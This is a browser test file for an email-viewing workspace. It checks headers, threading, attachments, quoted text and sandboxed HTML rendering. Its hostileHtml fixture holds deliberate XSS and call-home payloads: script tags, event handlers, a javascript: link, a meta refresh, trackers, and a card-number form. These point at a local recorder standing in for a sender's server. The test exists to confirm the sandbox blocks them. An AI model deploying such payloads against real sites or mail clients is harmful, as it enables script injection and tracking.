// An agent reads email in the workspace: headers, why a mail joined its thread, quoted history kept but
// folded, attachments and the ones not kept, and the mail's HTML in a sandboxed frame. The HTML here is
// stored UNSANITIZED on purpose: the frame (sandbox, CSP, our rewrite) must hold even when the sanitizer
// missed everything. A local server stands in for the sender's, recording whatever the browser asks it.
import { mkdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, BrowserContext, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchBrowser, signInThroughForm } from "../support/browser.ts";
import { createEmailConversation, createEmailMessage } from "../support/email-messages.ts";
import { createAgent, TEST_PASSWORD } from "../support/factories.ts";
import { solidPng, startRequestRecorder, type RequestRecorder } from "../support/request-recorder.ts";
import { startTestApp, type TestApp } from "../support/test-app.ts";

const SHOTS = join(tmpdir(), "switchboard-email-view");
let t: TestApp;
let recorder: RequestRecorder;
let browser: Browser;
let context: BrowserContext;
let page: Page;
const dialogs: string[] = [];
const topNavigations: string[] = [];
const popups: string[] = [];
let ids: { conversation: string; quoted: string; inline: string; hostile: string; outbound: string; bounce: string };

/** Every way a mail could run a script or call home; none may work. */
function hostileHtml(rec: RequestRecorder): string {
  // Each effect stands alone: touching the top page throws in an opaque-origin frame, and must not hide the rest.
  const steal = (tag: string) =>
    `fetch('${rec.httpUrl}/${tag}');document.body.dataset.pwned='${tag}';try{alert('${tag}')}catch(e){};` +
    `try{window.top.name='pwned-${tag}'}catch(e){};try{top.document.title='pwned'}catch(e){};try{top.location='${rec.httpUrl}/top-${tag}'}catch(e){}`;
  return `<html><head><meta http-equiv="refresh" content="0;url=${rec.httpUrl}/refresh"><link rel="stylesheet" href="${rec.httpUrl}/style.css"></head>
<body background="${rec.httpUrl}/body-bg.png">
<p>Dear support, <b>please</b> see below.</p>
<script>${steal("script")}</script>
<img src=x onerror="${steal("onerror")}">
<svg onload="${steal("svg")}" width="10" height="10"><circle r="5"/></svg>
<a id="js-link" href="javascript:${steal("js-link")}">Track your parcel</a>
<form action="${rec.httpUrl}/form" method="post"><input name="card" value="4111"><button id="form-submit">Confirm</button></form>
<img src="${rec.httpUrl}/tracker.png" alt="tracker">
<div style="width:20px;height:20px;background:url(${rec.httpUrl}/css.png)"></div>
<iframe src="${rec.httpUrl}/nested-frame"></iframe>
<video poster="${rec.httpUrl}/poster.png"></video>
<object data="${rec.httpUrl}/object"></object>
<p><img data-remote-src="${rec.httpsUrl}/remote.png" alt="Our logo"></p>
<a id="plain-link" href="${rec.httpUrl}/plain-link">A link</a>
</body></html>`;
}

function emailFrame(messageId: string): Frame {
  const frame = page.frames().find((f) => f.url().includes(`/api/messages/${messageId}/email-html`));
  if (!frame) throw new Error(`no frame for ${messageId}`);
  return frame;
}
const messageItem = (id: string) => page.locator(`[data-testid="message-item"][data-message-id="${id}"]`);

beforeAll(async () => {
  mkdirSync(SHOTS, { recursive: true });
  t = await startTestApp({ publicUrl: "local" });
  recorder = await startRequestRecorder();
  browser = await launchBrowser();
  // The "sender's" HTTPS server has a self-signed certificate.
  context = await browser.newContext({ viewport: { width: 1280, height: 900 }, ignoreHTTPSErrors: true });
  page = await context.newPage();
  context.on("page", (p) => popups.push(p.url()));
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on("framenavigated", (f) => {
    if (f === page.mainFrame()) topNavigations.push(f.url());
  });

  const agent = await createAgent(t.pool, { name: "Erin Email", presence: "available" });
  const c = await createEmailConversation(t.pool, { assignedAgentId: agent.id, customerEmail: "pat@example.test", subject: "Where is my order?" });
  const link = t.config;
  const base = { conversationId: c.id, customerId: c.customerId };
  const quoted = await createEmailMessage(t.pool, link, {
    ...base,
    body: "Thanks, that helps.\n\nOn Monday, Shop Support wrote:\n> Your order shipped on Friday.",
    email: {
      visibleText: "Thanks, that helps.",
      from: { address: "sam.colleague@other.test", name: "Sam Colleague" },
      to: [{ address: "support@shop.example.test", name: "Shop Support" }],
      cc: [{ address: "pat@example.test", name: "Pat Customer" }],
      thread: { by: "in_reply_to", value: "<reply-1@shop.example.test>" },
      withheld: [
        { filename: "video.mov", contentType: "video/quicktime", size: 48 * 1024 * 1024, reason: "too_large" },
        { filename: "scan-12.pdf", contentType: "application/pdf", size: 120_000, reason: "too_many" },
        { filename: "photos.zip", contentType: "application/zip", size: 9 * 1024 * 1024, reason: "total_too_large" },
      ],
    },
    files: [{ name: "invoice.pdf", contentType: "application/pdf", data: Buffer.from("%PDF-1.4\n%%EOF\n") }],
  });
  const inline = await createEmailMessage(t.pool, link, {
    ...base,
    body: "Here is a photo of the box.",
    email: { from: { address: "pat@example.test", name: "Pat Customer" }, thread: { by: "references", value: "<reply-0@shop.example.test>" } },
    html: `<p>Here is a photo of the box:</p><p><img src="cid:box-photo@pat" alt="The box" width="120" height="60"></p><p><img src="cid:gone@pat" alt="missing part"></p>`,
    files: [{ name: "box.png", contentType: "image/png", data: solidPng(120, 60, [40, 110, 220]), contentId: "<box-photo@pat>" }],
  });
  const hostile = await createEmailMessage(t.pool, link, {
    ...base,
    body: "Dear support, please see below.",
    email: {
      from: { address: "pat@example.test", name: "Pat Customer" },
      thread: { by: "reply_token", value: "k7f2q" },
      automated: "auto-reply (Auto-Submitted: auto-replied)",
      problems: ["A part declared charset x-unknown and was read as UTF-8"],
    },
    html: hostileHtml(recorder),
  });
  const outbound = await createEmailMessage(t.pool, link, {
    ...base,
    direction: "outbound",
    body: "It is on its way.",
    email: { from: { address: "support@shop.example.test", name: "Shop Support" }, to: [{ address: "pat@example.test", name: null }, { address: "old@example.test", name: null }], thread: null, rejectedRecipients: ["old@example.test"] },
  });
  const bounce = await createEmailMessage(t.pool, link, {
    ...base,
    body: "Delivery to old@example.test failed.",
    email: {
      from: { address: "mailer-daemon@mx.example.test", name: "Mail Delivery System" },
      thread: { by: "in_reply_to", value: "<reply-2@shop.example.test>" },
      automated: "bounce",
      bounce: { bouncedMessageId: "<reply-2@shop.example.test>", recipient: "old@example.test", status: "5.1.1", diagnostic: "550 5.1.1 User unknown" },
    },
  });
  ids = { conversation: c.id, quoted: quoted.id, inline: inline.id, hostile: hostile.id, outbound: outbound.id, bounce: bounce.id };

  await signInThroughForm(page, t.url, agent.email, TEST_PASSWORD);
  await page.locator(`[data-testid="conversation-item"][data-conversation-id="${c.id}"]`).click();
  await messageItem(ids.bounce).waitFor();
});
afterAll(async () => {
  await browser?.close();
  await recorder?.close();
  await t?.close();
});

describe("email in the workspace", () => {
  it("shows the headers, why each mail joined the thread, the files not kept and why, and folds quoted text", async () => {
    const quoted = messageItem(ids.quoted);
    await expect.poll(() => quoted.getByTestId("email-from").innerText()).toContain("Sam Colleague <sam.colleague@other.test>");
    // Mail from someone other than the customer says so.
    expect(await quoted.getByTestId("email-sender-other").count()).toBe(1);
    expect(await messageItem(ids.inline).getByTestId("email-sender-other").count()).toBe(0);
    expect(await quoted.getByTestId("email-to").innerText()).toBe("Shop Support <support@shop.example.test>");
    expect(await quoted.getByTestId("email-cc").innerText()).toBe("Pat Customer <pat@example.test>");
    expect(await quoted.getByTestId("email-subject").innerText()).toBe("Where is my order?");
    expect(await quoted.getByTestId("email-thread").innerText()).toBe("Joined by In-Reply-To <reply-1@shop.example.test>");
    expect(await messageItem(ids.inline).getByTestId("email-thread").innerText()).toBe("Joined by References <reply-0@shop.example.test>");
    expect(await messageItem(ids.hostile).getByTestId("email-thread").innerText()).toBe("Joined by reply address k7f2q");

    expect(await quoted.getByTestId("email-attachment").innerText()).toContain("invoice.pdf");
    expect(await quoted.getByTestId("email-attachment").getByRole("link", { name: "Download" }).getAttribute("href")).toMatch(/\/files\/[0-9a-f-]{36}\//);
    const withheld = await quoted.getByTestId("email-withheld").allInnerTexts();
    expect(withheld).toHaveLength(3);
    expect(withheld[0]).toMatch(/video\.mov .*48\.0 MB.* not kept: larger than the limit/);
    expect(withheld[1]).toMatch(/scan-12\.pdf .* not kept: more than 1 attachment$/);
    expect(withheld[2]).toMatch(/photos\.zip .* not kept: total size limit/);

    // Quoted history: folded, kept, and shown on request.
    const text = quoted.getByTestId("email-text");
    expect(await text.innerText()).toBe("Thanks, that helps.");
    await quoted.getByTestId("email-quoted-toggle").click();
    await expect.poll(() => text.innerText()).toContain("> Your order shipped on Friday.");
    await quoted.getByTestId("email-quoted-toggle").click();
    await expect.poll(() => text.innerText()).toBe("Thanks, that helps.");

    expect(await messageItem(ids.hostile).getByTestId("email-automated").innerText()).toBe("Automated: auto-reply (Auto-Submitted: auto-replied)");
    expect(await messageItem(ids.hostile).getByTestId("email-problems").innerText()).toContain("charset x-unknown");
    expect(await messageItem(ids.outbound).getByTestId("email-rejected").innerText()).toBe("Not delivered to: old@example.test");
    const bounce = messageItem(ids.bounce);
    expect(await bounce.getByTestId("email-bounce").innerText()).toBe("Bounced: 5.1.1 550 5.1.1 User unknown (to old@example.test)");
    expect(await bounce.getByTestId("email-automated").innerText()).toBe("Automated: bounce");
    await bounce.screenshot({ path: join(SHOTS, "bounce.png") });
    await messageItem(ids.outbound).screenshot({ path: join(SHOTS, "outbound-rejected.png") });
    expect(await page.getByTestId("composer-email-reply").innerText()).toBe("Reply to pat@example.test — Re: Where is my order?");
    await page.screenshot({ path: join(SHOTS, "timeline.png"), fullPage: false });
    await quoted.screenshot({ path: join(SHOTS, "quoted-mail.png") });
  });

  it("renders an inline cid: image from the mail's own attachment, and leaves an unknown one empty", async () => {
    const frame = emailFrame(ids.inline);
    await frame.waitForLoadState("load");
    const images = await frame.locator("img").evaluateAll((els) => els.map((e) => ({ src: e.getAttribute("src"), width: (e as HTMLImageElement).naturalWidth })));
    expect(images[0]!.src).toMatch(new RegExp(`^${t.config.publicUrl}/files/[0-9a-f-]{36}/`));
    expect(images[0]!.width).toBe(120);
    expect(images[1]).toEqual({ src: null, width: 0 });
    await messageItem(ids.inline).screenshot({ path: join(SHOTS, "inline-image.png") });
  });

  it("runs no script of a hostile mail and loads nothing remote until asked; then only its remote image", async () => {
    const item = messageItem(ids.hostile);
    const frame = emailFrame(ids.hostile);
    // "load" waits for every image, frame and object of the document, blocked or not.
    await frame.waitForLoadState("load");
    // Clicking the bait: a javascript: link, a form, a plain link (target _blank without allow-popups).
    await frame.locator("#js-link").click();
    await frame.locator("#form-submit").click();
    await frame.locator("#plain-link").click();
    await item.screenshot({ path: join(SHOTS, "hostile-blocked.png") });

    // Asking for remote images reloads the frame; its remote image's request arriving orders everything above before it.
    await item.getByTestId("email-remote-images").click();
    await recorder.waitFor("/remote.png");
    const remoteFrame = emailFrame(ids.hostile);
    expect(remoteFrame.url()).toContain("?images=remote");
    await remoteFrame.waitForLoadState("load");
    await expect.poll(() => remoteFrame.locator('img[alt="Our logo"]').evaluate((e) => (e as HTMLImageElement).naturalWidth)).toBe(60);

    // Only the image the agent asked for was fetched, over https: no tracker, CSS, frame, poster, refresh, form or script fetch.
    expect(recorder.requests).toEqual([{ scheme: "https", method: "GET", path: "/remote.png" }]);
    expect(dialogs).toEqual([]);
    expect(popups).toEqual([]);
    // The title is the workspace's own (it counts unread work), never one a mail wrote.
    const top = await page.evaluate(() => ({ name: window.name, title: document.title }));
    expect(top.name).toBe("");
    expect(top.title).toMatch(/^(\(\d+\) )?Switchboard$/);
    expect(await remoteFrame.locator("body").getAttribute("data-pwned")).toBeNull();
    // Neither the top page nor the frame went anywhere (the sign-in's navigation came before).
    expect(topNavigations.filter((u) => !u.startsWith(t.url))).toEqual([]);
    expect(new URL(page.url()).origin).toBe(t.url);
    expect(remoteFrame.url()).toBe(`${t.url}/api/messages/${ids.hostile}/email-html?images=remote`);
    // Checked last, so that a frame given more rights shows above what it would let through.
    expect(await item.getByTestId("email-frame").getAttribute("sandbox")).toBe("");
    await remoteFrame.locator('img[alt="Our logo"]').scrollIntoViewIfNeeded();
    await item.screenshot({ path: join(SHOTS, "hostile-remote-images.png") });
  });
});
